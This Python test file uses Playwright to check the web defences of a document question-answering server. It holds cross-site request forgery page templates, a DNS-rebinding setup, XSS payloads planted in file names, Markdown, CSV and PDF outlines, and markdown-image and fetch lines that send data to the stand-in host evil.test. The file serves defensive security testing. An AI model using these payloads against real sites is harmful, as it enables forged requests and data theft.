"""Attacks that need a browser: other sites, texts that are code, answers that call home. Numbers as in docs/serving.md."""

from __future__ import annotations

import contextlib
import csv
import http.server
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, expect
from reportlab.pdfgen.canvas import Canvas

from tests.page import world
from tests.page.payloads import PAYLOADS
from tests.page.tab import Tab
from tests.serve.serving import Running, running

QUESTION = '{"question": "Who is the harbour master of Gull Holm?"}'


@contextlib.contextmanager
def site(html: str) -> Iterator[str]:
    """Serve a page of an attacker; yield its address."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(html.encode())

        def log_message(self, format: str, *arguments: object) -> None:
            """Say nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()


def test_attack_3_a_name_that_is_bound_to_this_machine_later_reads_nothing(
    server: Running, launch: Callable[..., Browser]
) -> None:
    """The attacker's name has the address of the server by now, so that the browser takes both for one origin."""
    # Chromium itself forbids the page of a public address to ask a private one; here, the server alone must.
    browser = launch("--host-resolver-rules=MAP evil.test 127.0.0.1", "--disable-features=LocalNetworkAccessChecks")
    page = browser.new_page()
    address = f"http://evil.test:{server.port}"
    page.route(f"{address}/", lambda route: route.fulfill(body="<p>evil</p>", content_type="text/html"))
    page.goto(f"{address}/")
    before = server.metric("ragqa_answers_total")
    ask = f"{{method: 'POST', body: '{QUESTION}', headers: {{'Content-Type': 'application/json', Authorization: 'Bearer {server.secrets['alice']}'}}}}"
    for path, options in (("/api/page", "{}"), ("/page/app.js", "{}"), ("/healthz", "{}"), ("/api/ask", ask)):
        status, text = page.evaluate(
            f"fetch('{path}', {options}).then(async (reply) => [reply.status, await reply.text()])"
        )
        assert status == 421
        assert "Ada Quist" not in text
    page.unroute(f"{address}/")
    reply = page.goto(f"{address}/")
    assert reply
    assert reply.status == 421
    assert server.metric("ragqa_answers_total") == before
    browser.close()


CROSS_SITE = {
    "form": "<form method=post enctype=text/plain action='{url}/api/ask'><input name='{body}' value=''></form><script>document.forms[0].submit()</script>",
    "fetch without cors": "<script>fetch('{url}/api/ask', {{method: 'POST', mode: 'no-cors', body: '{body}'}})</script>",
    "fetch as JSON": "<script>fetch('{url}/api/ask', {{method: 'POST', headers: {{'Content-Type': 'application/json'}}, body: '{body}'}}).catch(() => 0)</script>",
    "beacon": "<script>navigator.sendBeacon('{url}/api/ask', new Blob(['{body}'], {{type: 'application/json'}}))</script>",
    "event source": "<script>new EventSource('{url}/api/ask')</script>",
    "image": "<img src='{url}/api/documents'>",
    "script": "<script src='{url}/page/app.js' type=module></script><script src='{url}/api/page'></script>",
    "sandboxed frame": "<iframe sandbox='allow-scripts' srcdoc=\"<script>fetch('{url}/api/ask', {{method: 'POST', body: '{{}}'}})</script>\"></iframe>",
}


@pytest.mark.parametrize("way", CROSS_SITE)
def test_attack_4_another_site_asks_no_question(browser: Browser, server: Running, way: str) -> None:
    before = server.metric("ragqa_answers_total")
    page = browser.new_page()
    with site(CROSS_SITE[way].format(url=server.url, body=QUESTION)) as address:
        page.goto(address)
        page.wait_for_timeout(300)
    assert server.metric("ragqa_answers_total") == before
    page.context.close()


def test_attack_4_another_site_cannot_frame_the_page(browser: Browser, server: Running) -> None:
    page = browser.new_page()
    with site(f"<iframe src='{server.url}/#token={server.secrets['alice']}'></iframe>") as address:
        page.goto(address)
        page.wait_for_timeout(300)
        frame = page.frames[1]
        assert "Ask your documents" not in frame.content()
        assert frame.url.startswith("chrome-error:")
    page.context.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """Return a server whose documents have the payloads in their names, titles, texts, columns and outlines."""
    folder = tmp_path_factory.mktemp("hostile")
    documents = folder / "documents"
    documents.mkdir()
    for number, payload in enumerate(PAYLOADS):
        name = payload.replace("/", "\u2215")
        (documents / f"{number:02} {name}.txt").write_text(
            f"Vessel{number:02} carries {payload} today.\n", encoding="utf-8"
        )
        escaped = payload.replace("<", "&lt;")
        (documents / f"page{number:02}.html").write_text(
            f"<title>{escaped}</title><p>Buoy{number:02} is {escaped} now.</p>", encoding="utf-8"
        )
    (documents / "all.md").write_text("".join(f"# {each}\n\nPier: {each}\n\n" for each in PAYLOADS), encoding="utf-8")
    with (documents / "columns.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([PAYLOADS, [f"{number} {each}" for number, each in enumerate(PAYLOADS)]])
    _outlined(documents / "outline.pdf")
    says = {
        f"What carries Vessel{number:02}?": f"Vessel{number:02} carries {payload} today."
        for number, payload in enumerate(PAYLOADS)
    }
    pipeline = world.built(folder, says, abstains=False, chunk_size=200)
    with running(folder, pipeline, conversations=str(folder / "kept.sqlite")) as found:
        yield found


def _outlined(path: Path) -> None:
    canvas = Canvas(str(path))
    canvas.setTitle(PAYLOADS[0])
    canvas.setAuthor(PAYLOADS[4])
    for number, payload in enumerate(PAYLOADS):
        canvas.bookmarkPage(str(number))
        canvas.addOutlineEntry(payload, str(number))
        canvas.linkURL(f"javascript:alert({number})", (0, 0, 600, 800))
        canvas.drawString(50, 800 - 18 * number, f"{number} {payload}")
    canvas.save()


@pytest.fixture
def attacked(browser: Browser, hostile: Running) -> Iterator[Tab]:
    """Return a tab at the page of that server; in the end, it must have done nothing that is forbidden."""
    with Tab.opened(browser, hostile) as found:
        yield found
        found.page.wait_for_timeout(200)


def test_attack_14_names_and_titles_of_files_are_text(attacked: Tab) -> None:
    panel = _all_documents(attacked)
    for payload in PAYLOADS[:38]:
        expect(panel).to_contain_text(payload.replace("/", "\u2215"))
        expect(panel).to_contain_text(payload)


def test_attack_14_a_text_of_markdown_is_text(attacked: Tab) -> None:
    _open(attacked, "Pier", "all.md")
    for name in ("Earlier text", "Later text"):
        more = attacked.page.get_by_role("button", name=name, exact=True)
        for _ in range(3):  # each press shows 8,000 characters more, and the button goes at the end of the text
            if more.is_visible():
                more.evaluate("button => button.click()")
                attacked.page.wait_for_timeout(300)
    for payload in PAYLOADS:
        if payload.startswith("<!--"):  # a comment of Markdown is not read
            continue
        expect(attacked.viewer).to_contain_text(payload)


def test_attack_14_the_head_of_a_table_is_text(attacked: Tab) -> None:
    _open(attacked, "columns meta http-equiv refresh", "columns.csv")
    expect(attacked.viewer.locator("th, mark, .text").first).to_be_visible()
    for payload in PAYLOADS[:38]:
        expect(attacked.viewer).to_contain_text(payload)


def test_attack_14_the_outline_and_the_links_of_a_pdf_do_nothing(attacked: Tab) -> None:
    _all_documents(attacked)
    attacked.button("Open outline.pdf").click()
    page = attacked.viewer.get_by_role("group", name="Page 1")
    expect(page).to_contain_text(PAYLOADS[4])
    page.click(position={"x": 60, "y": 60})
    assert attacked.page.url.startswith(attacked.server.url)


def _all_documents(tab: Tab) -> Locator:
    """Open the list of documents to its end."""
    tab.go("Documents")
    rows = tab.page.get_by_role("tabpanel", name="Documents").locator("tbody tr")
    for listed in (50, 2 * len(PAYLOADS) + 3):
        expect(rows).to_have_count(listed)
        if listed == 50:
            tab.button("More documents").click()
    return tab.page.get_by_role("tabpanel", name="Documents")


def _open(tab: Tab, words: str, name: str) -> None:
    tab.go("Search")
    tab.page.get_by_role("searchbox").fill(words)
    tab.page.get_by_role("searchbox").press("Enter")
    tab.page.get_by_role("list", name="Results").get_by_role("button", name=f"Open {name}").first.click()
    expect(tab.viewer.locator("#proof")).not_to_be_empty()


def test_attack_14_questions_answers_passages_and_titles_of_conversations_are_text(attacked: Tab) -> None:
    for number, payload in enumerate(PAYLOADS):
        attacked.ask(f"What carries Vessel{number:02}? {payload}")
        expect(attacked.turn.get_by_role("heading").first).to_contain_text(payload)
        expect(attacked.turn).to_contain_text(f"carries {payload}")
        if number % 8 == 0:
            attacked.turn.get_by_text("Why this answer").click()
            attacked.turn.get_by_role("button").filter(has_text="[1]").first.click()
            expect(attacked.viewer.locator("#proof")).not_to_be_empty()
            attacked.button("New conversation").click()
    attacked.go("Conversations")
    listed = attacked.page.get_by_role("list", name="Conversations")
    for number in range(0, len(PAYLOADS), 8):
        expect(listed).to_contain_text(PAYLOADS[number + 1] if number + 1 < len(PAYLOADS) else PAYLOADS[number])
    listed.get_by_role("button", name="What carries Vessel").first.click()
    expect(attacked.turn).to_be_visible()


def test_attack_14_messages_of_errors_are_text(attacked: Tab) -> None:
    expect(attacked.question).to_be_visible()
    for payload in PAYLOADS:
        error = {"error": {"message": payload, "type": "x", "param": None, "code": payload}}
        attacked.page.unroute_all()
        attacked.page.route("**/api/ask", _refused(error))
        attacked.question.fill("Who?")
        attacked.button("Ask").click()
        expect(attacked.turn.get_by_role("alert")).to_contain_text(payload)


def _refused(error: dict[str, Any]) -> Callable[[Any], None]:
    return lambda route: route.fulfill(status=422, json=error)


def test_attack_15_a_picture_in_an_answer_is_text_and_asks_nobody(attacked: Tab) -> None:
    number = PAYLOADS.index("![x](http://evil.test/?q=secret)")
    attacked.ask(f"What carries Vessel{number:02}?")
    expect(attacked.answer).to_contain_text("![x](http://evil.test/?q=secret)")
    expect(attacked.page.locator("#panel-ask img, #panel-ask a")).to_have_count(0)
    attacked.citation.click()
    expect(attacked.mark).to_contain_text("![x](http://evil.test/?q=secret)")


def test_attack_15_the_policy_stops_what_the_page_would_ask_elsewhere(server: Running, browser: Browser) -> None:
    """Were a text ever taken for code, the Content-Security-Policy would still let nothing out."""
    with Tab.opened(browser, server) as tab:
        expect(tab.question).to_be_visible()
        tries = """async () => {
            const failed = (promise) => promise.then(() => 0, () => 1);
            const image = new Promise((done) => { const i = new Image(); i.onload = () => done(0); i.onerror = () => done(1); i.src = "http://evil.test/"; });
            let html = 0; try { document.body.innerHTML += "<b>x</b>"; } catch { html = 1; }
            let code = 0; try { document.createElement("script").text = "alert(1)"; } catch { code = 1; }
            let made = 0; try { trustedTypes.createPolicy("other", {}); } catch { made = 1; }
            return [await failed(fetch("http://evil.test/")), await image, html, code, made];
        }"""
        assert tab.page.evaluate(tries) == [1, 1, 1, 1, 1]
        tab.foreign.clear()
        tab.errors.clear()


def test_attack_15_no_word_of_a_question_is_in_an_address(tab: Tab) -> None:
    tab.ask("Who is the harbour master of Gull Holm, canaryword?")
    assert not [address for address in tab.requests if "canaryword" in address]


def test_a_link_of_an_attacker_with_a_search_runs_no_code(browser: Browser, hostile: Running) -> None:
    for payload in PAYLOADS[:8]:
        with Tab.opened(browser, hostile) as tab:
            expect(tab.question).to_be_visible()
            tab.page.evaluate(
                "(payload) => { location.hash = new URLSearchParams({ q: payload, where: payload }); }", payload
            )
            expect(tab.page.get_by_role("searchbox")).to_have_value(payload)
